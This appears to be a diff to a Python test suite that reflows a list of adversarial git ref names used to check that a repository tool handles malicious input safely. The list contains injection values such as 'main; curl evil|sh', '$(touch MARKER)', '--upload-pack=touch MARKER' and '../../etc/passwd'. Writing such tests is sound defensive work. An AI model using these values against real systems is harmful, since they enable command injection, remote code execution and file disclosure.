@@ -176,7 +176,8 @@ def test_144_a_replaced_commit_is_not_believed(repo: Repo) -> None:
 
 REFS = [
     "main; curl evil|sh", "$(touch MARKER)", "`touch MARKER`", "--upload-pack=touch MARKER", "--output=MARKER", "-",
-    "--", "HEAD@{1}", "@{u}", "a..b", "main..HEAD", "main...HEAD", "refs/heads/../x", "main\n", "main\nHEAD", "\n", "", " ",
+    "--", "HEAD@{1}", "@{u}", "a..b", "main..HEAD", "main...HEAD", "refs/heads/../x", "main\n", "main\nHEAD", "\n", "",
+    " ",
     "x" * 10_000, "HEAD:a.py", ":/before", "main^{tree}", "HEAD^{/before}", "main\0", "main\x1b[31m", "１２", "*",
     "[a]", "^main", "../../etc/passwd", "/etc/passwd", "//x", "\udce9", "a\u2028b", "main\\", "-Omain", "--all",
     "main~" + "9" * 99, "deadbeef", "0" * 40, "HEAD~" + "1" * 6,
